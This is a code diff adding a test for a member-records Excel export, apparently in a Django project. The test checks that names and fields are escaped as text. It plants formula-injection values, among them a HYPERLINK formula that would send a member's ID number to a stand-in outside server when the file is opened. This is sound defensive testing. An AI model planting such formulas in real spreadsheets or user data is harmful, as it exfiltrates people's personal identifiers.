@@ -93,3 +93,23 @@ def test_the_export_writes_dates_and_labels_people_can_read(world, en):
     assert row["Category"] == "full member"
     assert row["Date joined"].date() == world.member.joined_on
     assert row["Party organization"] == world.b1.name
+
+
+def test_a_name_planted_as_a_formula_is_exported_as_text(world, en):
+    """A HYPERLINK in the name would send the full ID number in E2 to a stranger's server when the file is opened."""
+    planted = '=HYPERLINK("http://x/?"&E2,"x")'
+    Member.objects.filter(pk=world.member.pk).update(name=planted, post="@SUM(1+1)", ethnicity="-1+1")
+
+    response = en(world.worker).get(URL + "?full_id=1")
+
+    ws = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
+    assert ws.freeze_panes == "A2"
+    row = next(r for r in ws.iter_rows(min_row=2) if "HYPERLINK" in str(r[0].value))
+    name, ethnicity, post = row[0], row[2], row[9]
+    assert name.data_type == "s"
+    assert not name.value.startswith("=")
+    assert name.value == "'" + planted
+    assert (post.data_type, post.value) == ("s", "'@SUM(1+1)")
+    assert (ethnicity.data_type, ethnicity.value) == ("s", "'-1+1")
+    assert all(cell.data_type != "f" for r in ws.iter_rows() for cell in r)
+    assert row[3].is_date and row[3].number_format == "yyyy-mm-dd"
